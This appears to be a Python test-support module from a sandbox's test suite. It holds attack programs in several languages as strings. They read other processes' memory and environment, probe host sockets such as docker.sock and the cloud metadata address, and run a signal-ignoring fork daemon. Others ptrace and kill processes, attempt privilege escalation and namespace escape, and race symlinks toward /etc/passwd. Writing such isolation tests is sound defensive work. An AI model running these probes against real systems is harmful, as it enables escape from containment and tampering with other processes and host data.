# ruff: noqa: E501 (attacks stand as they are written)
"""The attacks of test_K_attacks.py as whole programs. Each prints what it achieved, and nothing when it was stopped."""

from __future__ import annotations

from typing import Final

READ_WHAT_IS_NAMED: Final = """
import os, sys
for path in sys.argv[1:]:
    for open_it in (lambda: open(path, "rb").read(64), lambda: os.listdir(path), lambda: os.readlink(path)):
        try:
            got = open_it()
        except OSError:
            continue
        print("got", path, got)
"""
"""Reads each argument as a file, a folder and a link."""

READ_EVERY_PROCESS: Final = """
import os
mine = {os.getpid()}
for pid in [name for name in os.listdir("/proc") if name.isdigit()] + ["thread-self", "self"]:
    own = pid in ("thread-self", "self") or int(pid) in mine
    for name in ("environ", "mem", "maps", "fd", "cwd", "root", "exe", "auxv", "io", "stack", "task/1/environ", "map_files"):
        path = f"/proc/{pid}/{name}"
        try:
            if name in ("fd", "map_files"):
                got = os.listdir(path)
            elif name in ("cwd", "root", "exe"):
                got = os.readlink(path)
            elif name == "mem" and own:
                continue
            else:
                got = open(path, "rb").read(64)
        except OSError:
            continue
        if not own and got:
            print("got", path, got)
print(sorted(map(int, os.listdir("/proc/self/fd")))[:3], [os.readlink(f"/proc/self/fd/{n}").split(":")[0] for n in (0, 1, 2)])
for number in range(3, 4096):
    try:
        print("open", number, os.readlink(f"/proc/self/fd/{number}"))
    except OSError:
        pass
"""
"""Reads what the kernel shows of every process, and its own descriptors: 0, 1 and 2 only."""

SEARCH: Final = """
import os, sys
marker = sys.argv[1].encode()[::-1]
for top in ("/tmp", "/var", "/run", "/mnt", "/home", "/root", "/srv", "/opt", "/workspace", "/program", "/dev/shm", "/media"):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path) and marker in open(path, "rb").read(1 << 20):
                    print("found in", path)
            except OSError:
                pass
"""
"""Looks for a marker (given backwards) in all that is not the read-only system."""

SOCKETS: Final = """
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>
int main(void) {
    int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET, SOCK_STREAM | SOCK_CLOEXEC};
    for (long family = -1; family < 64; family++)
        for (int t = 0; t < 5; t++)
            for (int upper = 0; upper < 2; upper++) {
                if (family == AF_UNIX) continue;
                long value = upper ? (family & 0xffffffffL) | (1L << 32) : family;
                if (syscall(SYS_socket, value, types[t], 0) >= 0) printf("socket %ld %d\\n", family, t);
            }
    int pair[2];
    for (int family = 2; family < 64; family++)
        if (socketpair(family, SOCK_STREAM, 0, pair) == 0) printf("pair %d\\n", family);
    char params[256] = {0};
    if (syscall(425, 8, params) >= 0) puts("io_uring_setup");
    if (syscall(426, 0, 0, 0, 0, 0, 0) >= 0 || (errno != ENOSYS && errno != EPERM)) puts("io_uring_enter");
    if (syscall(427, 0, 0, 0, 0) >= 0 || (errno != ENOSYS && errno != EPERM)) puts("io_uring_register");
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) puts("no unix pair");
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    const char *names[] = {"\\0/tmp/.X11-unix/X0", "\\0dbus", "/run/docker.sock", "/var/run/docker.sock",
                           "/run/systemd/private", "/run/dbus/system_bus_socket", "/run/containerd/containerd.sock"};
    for (int i = 0; i < 7; i++) {
        struct sockaddr_un a = {.sun_family = AF_UNIX};
        memcpy(a.sun_path, names[i], strlen(names[i] + 1) + 1);
        if (connect(fd, (void *)&a, sizeof a) == 0) printf("connected %s\\n", names[i] + !names[i][0]);
    }
    puts("done");
}
"""
"""Tries every family and type of socket, also with garbage above the argument, io_uring, and sockets of the host."""

CONNECT: Final = {
    "py": """
import socket, urllib.request, sys
for host, port in (("127.0.0.1", int(sys.argv[1])), ("::1", int(sys.argv[1])), ("169.254.169.254", 80), ("127.0.0.1", 9001),
                   ("1.1.1.1", 53), ("localhost", 22)):
    try:
        socket.create_connection((host, port), timeout=1); print("connected", host, port)
    except OSError: pass
try:
    print(socket.getaddrinfo("example.com", 80))
except OSError: pass
try:
    print(urllib.request.urlopen(f"http://127.0.0.1:{sys.argv[1]}/v1/health", timeout=1).read())
except OSError: pass
print("done")
""",
    "js": """
const net = require("net"), dns = require("dns"), http = require("http");
const ports = [Number(process.argv[2]), 9001];
let left = ports.length + 2;
const end = () => { if (--left === 0) console.log("done"); };
for (const port of ports) {
  try { const s = net.connect(port, "127.0.0.1", () => console.log("connected", port)); s.on("error", end); } catch { end(); }
}
dns.lookup("example.com", (e, a) => { if (!e) console.log(a); end(); });
fetch(`http://127.0.0.1:${ports[0]}/v1/health`).then(async r => console.log(await r.text()), () => {}).finally(end);
""",
    "go": """
package main
import ("fmt"; "net"; "net/http"; "os"; "time")
func main() {
    for _, a := range []string{"127.0.0.1:" + os.Args[1], "169.254.169.254:80", "[::1]:" + os.Args[1]} {
        if _, err := net.DialTimeout("tcp", a, time.Second); err == nil { fmt.Println("connected", a) }
    }
    if _, err := net.DialTimeout("udp", "1.1.1.1:53", time.Second); err == nil { fmt.Println("udp") }
    if r, err := (&http.Client{Timeout: time.Second}).Get("http://127.0.0.1:" + os.Args[1] + "/"); err == nil { fmt.Println(r) }
    fmt.Println("done")
}
""",
    "java": """
import java.net.*;
class M { public static void main(String[] a) throws Exception {
  for (String host : new String[] {"127.0.0.1", "169.254.169.254"})
    try (Socket s = new Socket()) { s.connect(new InetSocketAddress(host, Integer.parseInt(a[0])), 1000); System.out.println(host); }
    catch (Throwable t) { }
  System.out.println("done");
} }
""",
    "bash": """
(exec 3<>/dev/tcp/127.0.0.1/$1 && echo connected) 2>/dev/null
(exec 3<>/dev/udp/1.1.1.1/53 && echo udp) 2>/dev/null
echo done
""",
    "php": """<?php
foreach (["tcp://127.0.0.1:$argv[1]", "udp://1.1.1.1:53"] as $a) if (@stream_socket_client($a, $e, $m, 1)) echo "connected $a\\n";
if (@file_get_contents("http://127.0.0.1:$argv[1]/v1/health")) echo "read\\n";
echo "done\\n";
""",
    "r": """
args <- commandArgs(TRUE)
try(suppressWarnings({ socketConnection("127.0.0.1", as.integer(args[1]), timeout = 1); cat("connected\\n") }), silent = TRUE)
cat("done\\n")
""",
}
"""Connects to the service itself (its port is the first argument), a metadata address, a name server."""

DAEMON: Final = """
import os, signal, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 65):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
        workspace = os.open("/mnt/data", os.O_RDONLY)
        while True:
            # A new process each time: whoever counts must catch a moving target.
            if os.fork() > 0: os._exit(0)
            try: os.setsid()
            except OSError: pass
            for folder in ("/mnt/data", "/workspace", "/tmp", "/dev/shm", "/tmp/home", "/var/tmp"):
                try: open(folder + "/left", "w").write("x")
                except OSError: pass
            try: os.close(os.open("late", os.O_CREAT | os.O_WRONLY, dir_fd=workspace))
            except OSError: pass
    os._exit(0)
time.sleep(0.2)
print("started")
"""
"""A daemon that forks on for ever, deaf to every signal, and writes wherever it can."""

MEDDLE: Final = """
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>
static void try(const char *what, long pid, long result) { if (result >= 0) printf("%s %ld\\n", what, pid); }
int main(int n, char **v) {
    for (int i = 1; i < n; i++) {
        pid_t pid = atol(v[i]);
        char byte;
        struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
        struct sched_param idle = {0};
        cpu_set_t one;
        CPU_ZERO(&one); CPU_SET(0, &one);
        struct rlimit none = {0, 0};
        if (pid > 1) for (int s = 1; s < 65; s++) {
            try("kill", pid, kill(pid, s));
            try("tgkill", pid, syscall(SYS_tgkill, pid, pid, s));
            try("tkill", pid, syscall(SYS_tkill, pid, s));
        }
        try("ptrace", pid, ptrace(PTRACE_ATTACH, pid, 0, 0));
        try("seize", pid, ptrace(PTRACE_SEIZE, pid, 0, 0));
        try("readv", pid, syscall(SYS_process_vm_readv, pid, &local, 1L, &remote, 1L, 0L));
        try("writev", pid, syscall(SYS_process_vm_writev, pid, &local, 1L, &remote, 1L, 0L));
        long handle = syscall(SYS_pidfd_open, pid, 0);
        for (int fd = 0; fd < 10; fd++) try("getfd", pid, syscall(438, handle, fd, 0));
        for (int s = 1; s < 65; s++) try("pidfd", pid, syscall(424, handle, s, 0, 0));
        try("prlimit", pid, prlimit(pid, RLIMIT_CPU, &none, 0));
        if (setpriority(PRIO_PROCESS, pid, 19) == 0) printf("setpriority %d\\n", pid);
        try("scheduler", pid, sched_setscheduler(pid, SCHED_IDLE, &idle));
        try("affinity", pid, sched_setaffinity(pid, sizeof one, &one));
    }
    fflush(stdout);
    // The first process of the name space: no signal of ours may end, stop or wake it.
    for (int s = 1; s < 65; s++) { kill(1, s); syscall(SYS_tgkill, 1, 1, s); syscall(SYS_tkill, 1, s); kill(getppid(), s); }
    signal(SIGTERM, SIG_IGN);
    kill(-1, SIGTERM);
    kill(-getppid(), SIGSTOP);
    puts("done");
    return 7;
}
"""
"""Signals, traces, reads and reprioritises the processes that are named, and the first of its name space."""

ESCALATE: Final = """
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#define TRY(what) do { errno = 0; if ((long)(what) >= 0) puts(#what); } while (0)
int main(void) {
    TRY(setuid(0)); TRY(setresuid(0, 0, 0)); TRY(setgid(0)); TRY(setgroups(0, 0));
    TRY(unshare(CLONE_NEWUSER)); TRY(unshare(CLONE_NEWNS)); TRY(unshare(CLONE_NEWPID)); TRY(unshare(CLONE_NEWNET));
    TRY(mount("none", "/tmp", "tmpfs", 0, 0)); TRY(umount("/mnt/data")); TRY(chroot("/tmp")); TRY(syscall(SYS_pivot_root, "/", "/tmp"));
    TRY(mknod("/mnt/data/disk", S_IFBLK | 0666, 8 << 8)); TRY(mknod("/tmp/mem", S_IFCHR | 0666, (1 << 8) | 1));
    TRY(syscall(SYS_bpf, 0, 0, 0)); TRY(syscall(SYS_perf_event_open, 0, 0, -1, -1, 0)); TRY(syscall(SYS_keyctl, 0, -1, 0));
    TRY(syscall(SYS_add_key, "user", "k", "v", 1L, -1)); TRY(syscall(SYS_init_module, 0, 0, "")); TRY(syscall(SYS_kexec_load, 0, 0, 0, 0));
    TRY(syscall(SYS_reboot, 0xfee1dead, 672274793, 0x1234567, 0)); TRY(sethostname("x", 1)); TRY(syscall(SYS_setns, 0, 0));
    TRY(syscall(SYS_userfaultfd, 0)); TRY(syscall(SYS_open_by_handle_at, 0, 0, 0)); TRY(syscall(SYS_swapon, "/tmp/x", 0));
    TRY(open("/dev/mem", O_RDONLY)); TRY(open("/dev/kmsg", O_RDONLY)); TRY(open("/dev/sda", O_RDONLY)); TRY(open("/dev/fuse", O_RDWR));
    TRY(open("/proc/sys/kernel/core_pattern", O_WRONLY)); TRY(open("/proc/sysrq-trigger", O_WRONLY)); TRY(open("/sys/fs/cgroup/x", O_CREAT | O_WRONLY, 0600));
    TRY(syscall(435, 0, 0)); TRY(open("/proc/1/mem", O_RDWR)); TRY(open("/proc/1/oom_score_adj", O_WRONLY));
    if (geteuid() == 0) puts("root");
    puts("done");
}
"""
"""Tries to become more than it is."""

SWAP: Final = """
import ctypes, os, sys, threading, time
libc = ctypes.CDLL(None)
os.makedirs("d"); open("d/f", "w").write("mine")
os.symlink(sys.argv[1], "l")
open("g", "w").write("mine"); os.symlink(sys.argv[1] + "/shadow", "m"); os.symlink("/etc/passwd", "n")
stop = time.monotonic() + float(sys.argv[2])
def swap(a, b):
    while time.monotonic() < stop:
        libc.renameat2(-100, a, -100, b, 2)
for pair in ((b"d", b"l"), (b"g", b"m"), (b"g", b"n")):
    threading.Thread(target=swap, args=pair, daemon=True).start()
print("swapping", flush=True)
time.sleep(99)
"""
"""Exchanges a folder and a file with links, as fast as it can, until it is stopped in the middle of it."""
